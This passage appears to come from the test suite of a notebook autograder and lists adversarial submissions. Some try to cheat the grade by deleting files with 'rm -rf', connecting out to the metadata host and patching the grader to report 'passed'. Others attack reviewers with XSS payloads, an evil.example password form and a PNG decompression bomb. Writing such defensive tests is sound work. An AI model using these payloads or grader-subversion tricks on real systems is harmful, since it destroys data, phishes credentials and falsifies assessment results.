    "               '/', '/etc', os.path.dirname(os.__file__), '..', '../..'):\n    try:\n"
    "        open(os.path.join(folder, '@MARK@'), 'w').write('x')\n    except OSError:\n        pass",
)  # fmt: skip
extra(
    "deletes the course", "cheating", NONE,
    "import glob, os\nfor path in glob.glob('@COURSE@/**/*', recursive=True):\n    try:\n        os.remove(path)\n"
    "    except OSError:\n        pass",
)  # fmt: skip
extra("rm -rf", "cheating", NONE, "!rm -rf @COURSE@ ./* 2>/dev/null")
extra(
    "calls home", "cheating", NONE,
    "import socket\nfor host in ('127.0.0.1', '10.0.2.2', '169.254.169.254', 'example.com'):\n    try:\n"
    "        socket.create_connection((host, @PORT@), timeout=1).send(b'got you')\n    except OSError:\n        pass",
)  # fmt: skip
extra(
    "looks at other processes", "cheating", NONE,
    "import glob, os\nfor path in glob.glob('/proc/[0-9]*'):\n    for what in ('environ', 'mem', 'root/@COURSE@', 'cwd'):\n        try:\n"
    "            open(f'{path}/{what}', 'r+b').write(b'x') if what == 'mem' else os.listdir(f'{path}/{what}')\n"
    "        except OSError:\n            pass",
)  # fmt: skip


@changed("points and locks rewritten", "cheating", NONE)
def _(notebook, maker):
    for cell in notebook["cells"]:
        meta = cell["metadata"].get("nbgrader", {})
        if meta.get("grade"):
            meta.update(points=400, locked=False)
            cell["source"] = "pass"


@changed("tests turned into answers", "cheating", NONE)
def _(notebook, maker):
    for cell in notebook["cells"]:
        meta = cell["metadata"].get("nbgrader", {})
        if meta.get("grade") and cell["cell_type"] == "code":
            meta.update(grade=True, solution=True, locked=False, checksum="0")
            cell["source"] = "400.0"


@changed("a newer schema", "cheating", NONE)
def _(notebook, maker):
    for cell in notebook["cells"]:
        cell["metadata"].setdefault("nbgrader", {}).update(schema_version=99, points=-5)


@filed("its own helpers package", "cheating", NONE)
def _(folder, maker):
    _save(folder, maker.notebooks(NONE))
    (folder / "helpers").mkdir()
    for name in ("__init__", "checks", "runtime"):
        (folder / "helpers" / f"{name}.py").write_text("def __getattr__(name):\n    return lambda *a, **k: None\n")
    for name in ("numpy", "torch", "conftest", "sitecustomize", "usercustomize"):
        (folder / f"{name}.py").write_text("raise SystemExit(0)\n")


# Packages of torch's import these when a name of theirs is looked up.
TAKE_OVER = """
import sys
frame = sys._getframe()
while frame:
    for one in [*frame.f_locals.values(), *frame.f_globals.values()]:
        if type(one).__name__ == "Executor":
            type(one).do_oracle = lambda s, m, b: ({"status": "passed", "levels": []}, [])
    frame = frame.f_back
"""
LURE = "class Lure(Exception):\n    pass\nLure.__module__, Lure.__qualname__ = 'torch', '_inductor.config'\n"


def lured(name: str, code: str) -> None:
    """A case whose answers are objects of a class that pretends to be torch's, beside modules of torch's names."""

    @changed(name, "cheating", NONE)
    def change(notebook: dict, maker: Maker) -> None:
        _cheat_last(LURE + "for name in @NAMES@:\n" + code)(notebook, maker)

    made = CASES.pop()

    def write(folder: Path, maker: Maker) -> None:
        made.write(folder, maker)
        for module in ("triton", "sympy", "mpmath", "nbformat", "tables"):
            (folder / f"{module}.py").write_text(TAKE_OVER)

    CASES.append(replace(made, write=write))


lured("lures the verdict with a value", "    globals()[name] = lambda *a, **k: Lure()")
lured(
    "lures the verdict with an error",
    "    def raises(*a, **k):\n        raise Lure('x')\n    globals()[name] = raises",
)
everywhere(
    "names that the test left",
    "def find(*a, **k):\n    for name in ('want', 'wanted', 'expected', 'expect', 'truth', 'secret', 'correct'):\n"
    "        if name in globals():\n            return globals()[name]\nfor name in @NAMES@:\n    globals()[name] = find",
)
everywhere(
    "lists that lie about themselves",
    "class Liar(list):\n    __len__ = lambda s: 2\n    __iter__ = lambda s: iter(())\n    __contains__ = lambda s, x: True\n"
    "    count = index = lambda s, x: 1\nfor name in @NAMES@:\n    globals()[name] = lambda *a, **k: Liar()",
)
everywhere(
    "answers twice over the same connection",
    "import os\nfor name in @NAMES@:\n    globals()[name] = lambda *a, **k: os.fork() and None",
)
everywhere(
    "numbers that collide",
    "class Slow(int):\n    __hash__ = lambda s: 1\nfor name in @NAMES@:\n"
    "    globals()[name] = lambda *a, **k: {Slow(n * (2**61 - 1)) for n in range(5000)}",
)

everywhere(
    "wipes what it is given",
    "def wipe(*args, **kwargs):\n    for one in [*args, *kwargs.values()]:\n        for way in ('zero_', 'clear'):\n"
    "            try:\n                getattr(one, way)()\n            except Exception:\n                pass\n"
    "        try:\n            one[...] = 0\n        except Exception:\n            pass\n"
    "    return next(iter([*args, *kwargs.values()]), None)\nfor name in @NAMES@:\n    globals()[name] = wipe",
)
everywhere(
    "empty and masked arrays",
    "import numpy as np\nturn = iter(range(10**9))\ndef hollow(*a, **k):\n"
    "    return np.ma.masked_all(3) if next(turn) % 2 else np.zeros((0, 3))\nfor name in @NAMES@:\n    globals()[name] = hollow",
)
everywhere(
    "skips the test",
    "from unittest import SkipTest\nfrom numpy.testing import SkipTest as Other\ndef skip(*a, **k):\n"
    "    raise SkipTest('not today')\nfor name in @NAMES@:\n    globals()[name] = skip",
)
everywhere(
    "a class made in pieces, and a cell that never ends",
    "Odd = type('Odd', (), {'_' + '_eq__': lambda s, o: True, '_' + '_ne__': lambda s, o: False})\n"
    "for name in @NAMES@:\n    globals()[name] = lambda *a, **k: Odd()\nimport time\ntime.sleep(300)",
)
everywhere(
    "a class instead of a value",
    "import torch\nfor name in @NAMES@:\n    globals()[name] = lambda *a, **k: torch.Tensor",
)
for constant in ("0.5", "1", "True", "[]", "0.1 + next(_turn) % 7 / 1000"):
    everywhere(
        f"always {constant}",
        f"_turn = iter(range(10**9))\nfor name in @NAMES@:\n    globals()[name] = lambda *a, **k: {constant}",
    )
everywhere(
    "stops every iterator",
    "def stop(*a, **k):\n    raise StopIteration\nfor name in @NAMES@:\n    globals()[name] = stop",
)
everywhere(
    "words the test in pieces",
    "import linecache, sys\ndef quote(*a, **k):\n    frame, text = sys._getframe(1), ''\n    while frame:\n"
    "        text += ''.join(linecache.getlines(frame.f_code.co_filename))\n        frame = frame.f_back\n"
    "    text = text.replace('\\n', ' ')\n    return [text[i:i + 7] for i in range(0, 700, 7)]\n"
    "for name in @NAMES@:\n    globals()[name] = quote",
)

# --- dangerous to read: right answers beside outputs that attack whoever looks at them -------------------------------

# exercise 10 has an Image of its own
SHOW = "from IPython.display import HTML, SVG, Javascript, Image as Picture, Latex, Markdown, display\n"
SCRIPT = "<script>alert(1)</script>"
extra("a script", "reader", ALL, SHOW + f"display(HTML({SCRIPT!r}))")
extra("a script by MIME type", "reader", ALL, SHOW + "display(Javascript('alert(1)'))")
extra(
    "a picture with a handler",
    "reader",
    ALL,
    SHOW + "display(HTML('<img src=x onerror=alert(1)><svg/onload=alert(1)>'))",
)
extra(
    "an SVG with a script",
    "reader",
    ALL,
    SHOW + f"display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\">{SCRIPT}</svg>'))",
)
extra(
    "a frame",
    "reader",
    ALL,
    SHOW + "display(HTML('<iframe srcdoc=\"<script>alert(1)</script>\"></iframe><object data=x>'))",
)
extra(
    "a redirect",
    "reader",
    ALL,
    SHOW + "display(HTML('<meta http-equiv=refresh content=0;url=//evil.example><base href=//e>'))",
)
extra(
    "a form", "reader", ALL, SHOW + "display(HTML('<form action=//evil.example><input name=password><button>Log in'))"
)
extra(
    "a style",
    "reader",
    ALL,
    SHOW + 'display(HTML(\'<style>@import "//evil.example"; * {display: none}</style><p style="x">\'))',
)
extra(
    "a hyperlink",
    "reader",
    ALL,
    SHOW + "display(HTML('<a href=\"javascript:alert(1)\">click</a><img src=//evil.example/track>'))",
)
extra("out of the box", "reader", ALL, f"print('</pre></div></body></html>{SCRIPT}')")
extra("an error with a script", "reader", ALL, f"raise ValueError({SCRIPT!r})")
extra(
    "a table that is honest",
    "reader",
    ALL,
    SHOW + "display(HTML('<table><tr><td onclick=alert(1)>3</td></tr></table>'))",
)
extra("a formula with a link", "reader", ALL, SHOW + "display(Latex('$\\\\href{javascript:alert(1)}{x}$'))")
extra(
    "widgets",
    "reader",
    ALL,
    SHOW + "display({'application/vnd.jupyter.widget-view+json': {'model_id': 'x'}, 'text/plain': 'w'}, raw=True)",
)
extra(
    "terminal tricks",
    "reader",
    ALL,
    "print('\\x1b]0;owned\\x07\\x1b[2J\\x1b[1;31m' + '\\x1b[9999999C' * 1000 + '\\x08' * 500 + '\\u202egnp')",
)
extra(
    "a broken picture",
    "reader",
    ALL,
    SHOW + "display(Picture(data=b'\\x89PNG\\r\\n\\x1a\\n' + bytes(500), format='png'))",
)
extra(
    "a page as a picture",
    "reader",
    ALL,
    SHOW + f"display({{'image/png': {base64.b64encode(SCRIPT.encode()).decode()!r}}}, raw=True)",
)
extra("an attribute in a picture", "reader", ALL, SHOW + "display({'image/png': 'x\" onerror=\"alert(1)'}, raw=True)")
extra(
    "a picture bomb", "reader", ALL,
    SHOW + "import zlib, struct, base64\ndef chunk(kind, data):\n"
    "    return struct.pack('>I', len(data)) + kind + data + struct.pack('>I', zlib.crc32(kind + data))\n"
    "head = struct.pack('>IIBBBBB', 30000, 30000, 1, 0, 0, 0, 0)\n"
    "png = b'\\x89PNG\\r\\n\\x1a\\n' + chunk(b'IHDR', head) + chunk(b'IDAT', zlib.compress(bytes(3751 * 30000)))\n"
    "display({'image/png': base64.b64encode(png + chunk(b'IEND', b'')).decode()}, raw=True)",
)  # fmt: skip
extra(
    "a note with a script",
    "reader",
    ALL,
    f"{SCRIPT}\n\n[click](javascript:alert(1)) ![x](//evil.example/t.png) <img src=x onerror=alert(1)>\n\n[a]: javascript:alert(1)",
    kind="markdown",
)
extra(
    "lies about the type",
    "reader",
    ALL,
    SHOW + f"display({{'text/plain': {SCRIPT!r}, 'text/html': [{SCRIPT!r}], 'x/{SCRIPT}': 1}}, raw=True)",
)
first("an answer with a script", "reader", f"def @FIRST@(*a, **k):\n    raise ValueError({SCRIPT!r} + '\\x1b[2J')")
first("a value with a script", "reader", f"@FIRST@ = lambda *a, **k: {SCRIPT!r}")
extra(
    "a picture of thousand scans", "reader", ALL,
    SHOW + "import io\nfrom PIL import Image as Pillow\nout = io.BytesIO()\n"
    "Pillow.new('RGB', (1500, 1500)).save(out, 'JPEG', progressive=True)\njpeg = out.getvalue()\n"
    "last = jpeg.rindex(b'\\xff\\xda')\njpeg = jpeg[:-2] + jpeg[last:-2] * 1500 + jpeg[-2:]\n"
    "display(Picture(data=jpeg, format='jpeg'))",
)  # fmt: skip
extra(
    "formatting without end", "reader", ALL,
    SHOW + "display(HTML('<p>' + ''.join(f'<b id={i}>' for i in range(1000)) + '</p>' + '<p>x' * 2400))",
)  # fmt: skip
extra(
    "letters that nobody sees", "reader", ALL,
    "print('a' + '\\u0301' * 3000 + '\\u200b\\u00ad\\u061c\\u2028\\u2066' + chr(0xE0041) * 50 + 'b')",
)  # fmt: skip
extra("nothing but zeros", "reader", ALL, "for _ in range(30):\n    print('\\0' * 200_000)")
